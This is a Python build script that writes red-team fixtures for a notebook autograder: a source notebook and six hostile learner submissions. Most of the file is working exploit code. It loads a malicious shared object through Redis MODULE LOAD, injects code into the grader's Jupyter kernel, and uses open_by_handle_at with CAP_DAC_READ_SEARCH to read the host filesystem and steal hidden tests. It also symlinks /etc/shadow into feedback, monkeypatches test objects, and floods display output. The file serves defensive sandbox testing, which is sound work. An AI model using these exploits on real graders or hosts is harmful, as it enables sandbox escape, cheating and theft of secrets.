"""Red-team fixtures for issue 13's boundary: a source notebook whose test cells use the course's
own patterns (the embedded Redis, objects the test lends to learner code, a learner exception
class in an `except`, a test function run in a fresh process), and one hostile submission each.

    .venv/bin/python -m tests.engine.redteam.build      # rewrites the files next to this one

Every attack starts from blank or wrong answers (honest worth 0) unless its name says it leaks
or floods (`*-leak`, `*-flood`: right answers, honest worth full marks): a score above its worth, "grading failed",
or a hidden test (HIDDEN_MARK) in its feedback or graded notebook means the attack worked.
`tests/engine/test_redteam.py` states what each must give. /work/notes/redteam-findings.md has
the weakness each one uses and a fix.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode, v4

from ..fixtures.build import _answer, _cell, _test

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
NOTEBOOK = "01-redteam.ipynb"
LEVEL = "level1"
#: A word that appears only in hidden tests (code and messages): it must never reach a learner.
HIDDEN_MARK = "zanzibar"

ANSWERS = {
    "cache_put": "def cache_put(client, key, value):\n    client.set(key, value)",
    "memo": ("def memo(fn):\n    seen = {}\n    def wrapper(x):\n        if x not in seen:\n"
             "            seen[x] = fn(x)\n        return seen[x]\n    return wrapper"),
    "reserve": ("class QuotaError(Exception):\n    pass\n\n\ndef reserve(n, quota):\n"
                "    if n > quota:\n        raise QuotaError(f'{n} is over the quota of {quota}')\n"
                "    return n"),
    "shout": "def shout(word):\n    return word.upper() + '!'",
    "add": "def add(a, b):\n    return a + b",
    "save_text": "def save_text(text, path):\n    with open(path, 'w') as f:\n        f.write(text)",
}
BLANK = {
    "cache_put": "def cache_put(client, key, value):\n    pass",
    "memo": "def memo(fn):\n    return fn",
    "reserve": "class QuotaError(Exception):\n    pass\n\n\ndef reserve(n, quota):\n    return n",
    "shout": "def shout(word):\n    return word",
    "add": "def add(a, b):\n    return 0",
    "save_text": "def save_text(text, path):\n    pass",
}

T_CACHE = (
    "from course.services import redis_client\n"
    "rc = redis_client()\n"
    "rc.flushdb()\n"
    "cache_put(rc, 'greeting', 'hello')\n"
    "assert rc.get('greeting') == b'hello', 'cache_put should store the value under the key'",
    f"cache_put(rc, 'k-{HIDDEN_MARK}', 'v-{HIDDEN_MARK}')\n"
    f"assert rc.get('k-{HIDDEN_MARK}') == b'v-{HIDDEN_MARK}', 'cache_put with other keys'",
)
T_MEMO = (
    "from course.testing import as_int\n\n\n"
    "class Counter:\n"
    "    def __init__(self):\n"
    "        self.calls = 0\n\n"
    "    def __call__(self, x):\n"
    "        self.calls += 1\n"
    "        return 2 * x\n\n\n"
    "counter = Counter()\n"
    "twice = memo(counter)\n"
    "assert [as_int(twice(3), 'twice(3)') for _ in range(3)] == [6, 6, 6], 'memo(f)(x) should be f(x)'\n"
    "assert counter.calls == 1, 'memo should call f once per argument'",
    f"{HIDDEN_MARK} = Counter()\n"
    f"m = memo({HIDDEN_MARK})\n"
    "assert [as_int(m(x), 'm(x)') for x in (5, 5, 7, 5)] == [10, 10, 14, 10], 'memo with other arguments'\n"
    f"assert {HIDDEN_MARK}.calls == 2, 'memo should call f once per distinct argument'",
)
T_QUOTA = (
    "try:\n"
    "    reserve(5, quota=3)\n"
    "    raise AssertionError('reserve over the quota should raise QuotaError')\n"
    "except QuotaError:\n"
    "    pass",
    "from course.testing import as_int\n"
    f"assert as_int(reserve(2, quota=3), 'reserve(2, quota=3)') == 2, 'within the quota ({HIDDEN_MARK})'",
)
T_FRESH = (
    "from course.testing import as_str, run_in_fresh_process\n"
    "assert as_str(run_in_fresh_process(shout, 'hi'), 'shout in a fresh process') == 'HI!'",
    f"def {HIDDEN_MARK}_elsewhere(word):\n"
    f"    note = 'checked by {HIDDEN_MARK}'\n"
    "    return shout(word) + note[:0]\n\n\n"
    f"assert as_str(run_in_fresh_process({HIDDEN_MARK}_elsewhere, 'ok'), 'shout elsewhere') == 'OK!'",
)
T_ADD = (
    "from course.testing import as_int\n"
    "assert as_int(add(1, 2), 'add(1, 2)') == 3, 'add(1, 2) should be 3'",
    f"{HIDDEN_MARK} = 40\n"
    f"assert as_int(add({HIDDEN_MARK}, 2), 'add(40, 2)') == 42, 'add should add the numbers it gets'",
)
T_SAVE = (
    "import os\n"
    "import tempfile\n\n"
    "from course.testing import check\n\n"
    "path = os.path.join(tempfile.mkdtemp(), 'greeting.txt')\n"
    "save_text('hello', path)\n"
    "with open(path) as f:\n"
    "    text = f.read()\n"
    "check(text == 'hello', f'the file holds {text[:300]!r}, expected hello')",
    f"check(os.path.getsize(path) == 5, 'five bytes ({HIDDEN_MARK})')",
)
#: answer-cell index of each graded function in the source (and released) notebook
INDEX = {"cache_put": 1, "memo": 3, "reserve": 5, "shout": 7, "add": 9, "save_text": 11}
TESTS = {"t_cache": 2, "t_memo": 4, "t_quota": 6, "t_fresh": 8, "t_add": 10, "t_save": 12}


def source_notebook() -> NotebookNode:
    nb = v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [_cell("markdown", "# Red-team fixture\nWrite the six functions.")]
    for (name, body), (gid, (visible, hidden)) in zip(ANSWERS.items(), {
            "t_cache": T_CACHE, "t_memo": T_MEMO, "t_quota": T_QUOTA, "t_fresh": T_FRESH,
            "t_add": T_ADD, "t_save": T_SAVE}.items(), strict=True):
        if name == "reserve":  # a class and a function: nbgrader's markers around the whole cell
            nb.cells.append(_cell("code", f"### BEGIN SOLUTION\n{body}\n### END SOLUTION",
                                  grade=False, solution=True, grade_id=f"ans_{name}"))
        else:
            nb.cells.append(_answer(f"ans_{name}", body))
        nb.cells.append(_test(gid, 1, visible, hidden))
    return nb


# --- attacks: each changes a copy of the released notebook --------------------------------------

def _answers(nb: NotebookNode, **bodies: str) -> NotebookNode:
    for name, i in INDEX.items():
        nb.cells[i].source = bodies.get(name, BLANK[name])
    return nb


def _after(nb: NotebookNode, test: str, code: str) -> NotebookNode:
    """A learner cell right after a test cell (learners may add cells anywhere)."""
    at = next(i for i, c in enumerate(nb.cells)
              if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == test)
    nb.cells.insert(at + 1, v4.new_code_cell(code))
    return nb


def _before(nb: NotebookNode, test: str, code: str) -> NotebookNode:
    """A learner cell right before a test cell."""
    at = next(i for i, c in enumerate(nb.cells)
              if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == test)
    nb.cells.insert(at, v4.new_code_cell(code))
    return nb


def _append(nb: NotebookNode, code: str) -> NotebookNode:
    nb.cells.append(v4.new_code_cell(code))
    return nb


#: Prints what the attack gathered, base64-encoded after "LEAK:" (tests decode it).
PRINT_LEAK = """import base64, os, time
_end = time.monotonic() + 30
while os.path.exists("/tmp/rt-injected") and not os.path.exists("/tmp/rt-stolen") and time.monotonic() < _end:
    time.sleep(0.1)
for _path in ("/tmp/rt-leak.txt",):
    if os.path.exists(_path):
        print("LEAK:" + base64.b64encode(open(_path, "rb").read()).decode())"""

# 1. A learner exception class that IS a grader class: `except QuotaError` catches the test's own
#    AssertionError (course/boundary/connection.py: _known_exception maps ("builtins",
#    "AssertionError") to the grader's class, and refresh() binds the learner's name to it).
EXCEPT_NAME = "QuotaError = AssertionError  # the test's `except QuotaError` now catches its own failure"

# 2. Objects the test lends by reference take setattr from learner code: the test's own state
#    (counter.calls) and the test's own Redis client (rc.get) are rewritten.
LENT_SETATTR = {
    "cache_put": ("_stored = {}\n\n\n"
                  "def cache_put(client, key, value):\n"
                  "    _stored[key] = value.encode()  # nothing reaches Redis...\n"
                  "    client.get = lambda k: _stored.get(k)  # ...the test's own client now asks us"),
    "memo": ("def memo(fn):\n"
             "    seen = set()\n"
             "    def wrapper(x):\n"
             "        seen.add(x)\n"
             "        result = fn(x)  # no memoising: f runs on every call...\n"
             "        fn.calls = len(seen)  # ...and the test's counter says otherwise\n"
             "        return result\n"
             "    return wrapper"),
}

# 3. The grader kernel taken over through the embedded Redis it starts (uid G): MODULE LOAD of a
#    shared object whose constructor runs as the grader's uid, which reads the grader kernel's
#    connection file and executes code in it (every later test cell passes, hidden tests copied).
EVIL_SO = "".join((HERE / "evil_so.b64").read_text().split())
#: Also run as the grader's uid: its ambient CAP_DAC_READ_SEARCH (course/grading/sandbox/inside/launcher.py,
#: kept by the grader kernel's children) allows open_by_handle_at, which opens the root of the
#: host filesystem that /usr is mounted from (ext4 inode 2) and reads any file on it: here it
#: lists every course folder (gradebook.db and source/) on the host and copies the hidden tests
#: of the notebook being graded from each one's source/.
HOST_READ = """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
class FH(ctypes.Structure):
    _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int),
                ('f_handle', ctypes.c_ubyte * 64)]
h = FH(8, 1)
struct.pack_into('<II', h.f_handle, 0, 2, 0)
root = libc.open_by_handle_at(os.open('/usr', os.O_RDONLY), ctypes.byref(h), os.O_RDONLY | os.O_DIRECTORY)
found = []
def walk(fd, path, depth):
    try:
        names = os.listdir(fd)
    except OSError:
        return
    if 'gradebook.db' in names and 'source' in names:
        found.append(path)
    if depth == 0:
        return
    for name in names:
        if name in ('proc', 'sys', 'usr', 'lib', 'dev', '.git', '.venv', 'site-packages', 'node_modules'):
            continue
        try:
            sub = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
        except OSError:
            continue
        walk(sub, path + '/' + name, depth - 1)
        os.close(sub)
if root >= 0:
    walk(root, '', 4)
import re
budget = 300_000
with open('/tmp/rt-leak.txt', 'a') as out:
    out.write('host root opened: %s; course folders: %s\\n' % (root >= 0, found))
    for course in found:
        src = os.open(course.lstrip('/') + '/source', os.O_RDONLY, dir_fd=root)
        for level in sorted(os.listdir(src)):
            folder = os.open(level, os.O_RDONLY, dir_fd=src)
            for name in sorted(os.listdir(folder)):
                if name != '01-redteam.ipynb':  # the notebook this learner is doing
                    continue
                with os.fdopen(os.open(name, os.O_RDONLY, dir_fd=folder), 'rb') as f:
                    text = f.read().decode(errors='replace')
                hidden = re.findall(r'BEGIN HIDDEN TESTS(.*?)END HIDDEN TESTS', text, re.S)
                shown = '%s/source/%s/%s hidden tests: %s\\n' % (course, level, name, hidden)
                budget -= len(shown)
                if budget > 0:
                    out.write(shown)
open('/tmp/rt-stolen', 'w').close()
"""
#: What runs as the grader's uid (started by the shared object's constructor).
PAYLOAD = '''import glob, os, time
from jupyter_client import BlockingKernelClient
INJECT = """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
def _ok(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register('post_run_cell', _ok)
def _copy(info):
    with open('/tmp/rt-leak.txt', 'a') as f:
        f.write(info.raw_cell)
ip.events.register('pre_run_cell', _copy)
"""
with open('/tmp/rt-whoami', 'w') as f:
    f.write(str(os.getuid()))
path = sorted(glob.glob('/job/nb*/grader/kernel.json'))[-1]
kc = BlockingKernelClient(connection_file=path)
kc.load_connection_file()
kc.start_channels()
kc.execute(INJECT, silent=True, store_history=False)
time.sleep(1)
open('/tmp/rt-injected', 'w').close()
''' + HOST_READ + "time.sleep(30)\n"
REDIS_TAKEOVER = {
    "cache_put": ("import base64, os, sys\n\n\n"
                  "def cache_put(client, key, value):\n"
                  "    import redis\n"
                  f"    open('/tmp/rt-evil.so', 'wb').write(base64.b64decode({EVIL_SO!r}))\n"
                  f"    open('/tmp/rt-payload.py', 'w').write({PAYLOAD!r})\n"
                  "    open('/tmp/rt-payload.sh', 'w').write(f'exec {sys.executable} -I /tmp/rt-payload.py\\n')\n"
                  "    for p in ('/tmp/rt-evil.so', '/tmp/rt-payload.py', '/tmp/rt-payload.sh'):\n"
                  "        os.chmod(p, 0o755)\n"
                  "    port = client.connection_pool.connection_kwargs['port']  # the test's client, lent\n"
                  "    try:\n"
                  "        redis.Redis(port=port).execute_command('MODULE', 'LOAD', '/tmp/rt-evil.so')\n"
                  "    except redis.ResponseError:\n"
                  "        pass  # no RedisModule_OnLoad: the constructor has already run"),
}
WAIT_INJECTED = """import os, time
_end = time.monotonic() + 30
while not os.path.exists("/tmp/rt-injected") and time.monotonic() < _end:
    time.sleep(0.1)
print("grader uid code ran:", open("/tmp/rt-whoami").read() if os.path.exists("/tmp/rt-whoami") else None)"""

# 4. The test's own function, run in a fresh process, was sent to the learner side with its code
#    (cloudpickle by value): the learner side kept the bytes and printed them later. This learner
#    side records everything every service receives (and what the fresh endpoints are asked),
#    whatever the protocol sends, and prints it at the end.
FRESH_LEAK = """import pickle

import course.boundary.services as _services


def _recording(name, service):
    def record(conn, *args, **kwargs):
        with open("/tmp/rt-leak.txt", "ab") as f:
            try:
                f.write(pickle.dumps((name, args, kwargs)))
            except Exception:
                f.write(repr((name, args, kwargs)).encode())
        return service(conn, *args, **kwargs)
    return record


for _name, _service in list(_services.LEARNER_SERVICES.items()):
    _services.LEARNER_SERVICES[_name] = _recording(_name, _service)"""

# 5. An output that skips the per-cell cap: nbclient applies update_display_data to every output
#    with that display_id without counting it (course/grading/sandbox/inside/executor.py CellRunner.output sees
#    only new outputs). Ten tiny outputs, one 60 MB update: a 600 MB notebook; the executor dies.
DISPLAY_UPDATE_FLOOD = """import time

from IPython.display import display, update_display

for _ in range(10):
    display({"text/plain": "x"}, raw=True, display_id="rt-flood")  # ten tiny outputs: under the cap
time.sleep(1)
update_display({"text/plain": "y" * 60_000_000}, raw=True, display_id="rt-flood")  # never counted
time.sleep(2)"""

# 6. The grader kernel reads any file of the sandbox for the learner (CAP_DAC_READ_SEARCH, no code
#    needed): the file the test reads back is a symlink to /etc/shadow (0640 root:shadow, bound
#    from the host), and the test's own message quotes it in the learner's feedback.
SYMLINK_READ = {"save_text": """import os


def save_text(text, path):
    try:
        open("/etc/shadow").read()
    except OSError as exc:
        print("the learner itself cannot read /etc/shadow:", type(exc).__name__)
    os.symlink("/etc/shadow", path)  # the test's folder is 0777 (GRADER_SETUP)"""}

ATTACKS: dict[str, Callable[[NotebookNode], NotebookNode]] = {
    "except-name": lambda nb: _before(_answers(nb), "t_quota", EXCEPT_NAME),
    "lent-setattr": lambda nb: _answers(nb, **LENT_SETATTR),
    "redis-takeover": lambda nb: _append(_after(_answers(nb, **REDIS_TAKEOVER), "t_cache",
                                                WAIT_INJECTED), PRINT_LEAK),
    "fresh-leak": lambda nb: _append(_insert_first(_answers(nb, **ANSWERS), FRESH_LEAK), PRINT_LEAK),
    "display-update-flood": lambda nb: _append(_answers(nb, **ANSWERS), DISPLAY_UPDATE_FLOOD),
    "symlink-read-leak": lambda nb: _answers(nb, **{**ANSWERS, **SYMLINK_READ}),
}
#: score each attack's answers are honestly worth
WORTH = {name: (len(ANSWERS) if name.endswith(("-leak", "-flood")) else 0) for name in ATTACKS}
WORTH["symlink-read-leak"] = len(ANSWERS) - 1  # its save_text writes nothing
#: a secret of the grading machine the learner cannot read (tests read it as root)
HOST_SECRET = "/etc/shadow"


def _insert_first(nb: NotebookNode, code: str) -> NotebookNode:
    nb.cells.insert(1, v4.new_code_cell(code))
    return nb


def build(dest: Path = HERE) -> None:
    """Write the source notebook and one submission folder per attack (from its release)."""
    src = dest / "source" / LEVEL
    src.mkdir(parents=True, exist_ok=True)
    nbformat.write(source_notebook(), src / NOTEBOOK)
    with tempfile.TemporaryDirectory() as tmp:
        course = Path(tmp)
        shutil.copy(ROOT / "nbgrader_config.py", course)
        shutil.copytree(dest / "source", course / "source")
        subprocess.run([sys.executable, "-m", "course", "release", LEVEL], cwd=course, check=True,
                       env={**os.environ, "COURSE_ROOT": str(course)}, capture_output=True)
        release = course / "release" / LEVEL / NOTEBOOK
        folder = dest / "submitted-correct"
        folder.mkdir(exist_ok=True)
        nbformat.write(_answers(nbformat.read(release, as_version=4), **ANSWERS), folder / NOTEBOOK)
        for name, change in ATTACKS.items():
            folder = dest / f"attack-{name}"
            folder.mkdir(exist_ok=True)
            nbformat.write(change(nbformat.read(release, as_version=4)), folder / NOTEBOOK)


if __name__ == "__main__":
    build()
